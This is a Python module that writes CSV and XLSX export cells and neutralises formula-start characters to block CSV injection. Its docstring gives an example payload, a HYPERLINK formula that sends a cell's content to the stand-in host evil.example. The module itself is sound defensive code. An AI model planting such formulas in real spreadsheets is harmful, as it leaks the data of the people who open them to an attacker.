"""Cells of the spreadsheets people download (CSV and XLSX): every writer goes through here.

A text cell that starts with = + - @, a tab or a carriage return is run as a formula by spreadsheet programs
(CSV injection: `=HYPERLINK("http://evil.example/?"&A1,"x")` as a display name). Such text gets a leading `'`,
which shows it as text. XLSX cells are written with their type (text, number, date), never as formulas.
No library does this neutralisation (the csv module and openpyxl write what they are given), hence by hand.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Iterator, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
BOM = "\ufeff"  # so spreadsheet programs read the file as UTF-8 (names with accents)
CSV_CHUNK_ROWS = 500  # rows per streamed chunk: a long export never sits in memory whole

_NUMBER = (int, float, Decimal)


def neutralise(text: str) -> str:
    """Text as a spreadsheet must show it: never the start of a formula."""
    return "'" + text if text.startswith(FORMULA_START) else text


def iso_utc(value: date | datetime) -> str:
    """ISO 8601; a moment in UTC with the zone stated (2026-01-31T09:00:00Z)."""
    if isinstance(value, datetime):
        return value.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    return value.isoformat()


def csv_cell(value: Any) -> str | int | float | Decimal:
    """A cell of a CSV file: numbers as they are, dates in ISO 8601, any other value as neutralised text."""
    if type(value) is str:  # the common case first: exports are long
        return neutralise(value)
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, _NUMBER):
        return value  # the csv module writes numbers as they are
    if isinstance(value, date):
        return iso_utc(value)
    return neutralise(str(value))  # str, lazy translations, enums' labels: all text


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Iterator[str]:
    """The CSV as text chunks: a byte-order mark, the header, then the rows a few hundred at a time."""
    buffer = io.StringIO()
    buffer.write(BOM)
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([csv_cell(v) for v in header])
    for index, row in enumerate(rows, 1):
        writer.writerow([csv_cell(v) for v in row])
        if index % CSV_CHUNK_ROWS == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    if buffer.tell():
        yield buffer.getvalue()


def xlsx_value(value: Any) -> Any:
    """A typed XLSX value: text (neutralised, so openpyxl stores it as a string, never as a formula), a number, a
    date or a UTC datetime (openpyxl gives both a date format); None leaves the cell empty."""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if value is None or isinstance(value, _NUMBER):
        return value
    if isinstance(value, datetime):
        return value.astimezone(UTC).replace(tzinfo=None)  # Excel has no time zones; the columns say UTC
    if isinstance(value, date):
        return value
    # Control characters cannot be stored in XLSX at all (openpyxl refuses them): they are dropped.
    return neutralise(ILLEGAL_CHARACTERS_RE.sub("", str(value)))


def xlsx_row(sheet: WriteOnlyWorksheet, values: Sequence[Any]) -> None:
    # Plain values, not cell objects: openpyxl's write-only sheet reuses one cell for them, which is much faster.
    sheet.append([xlsx_value(value) for value in values])
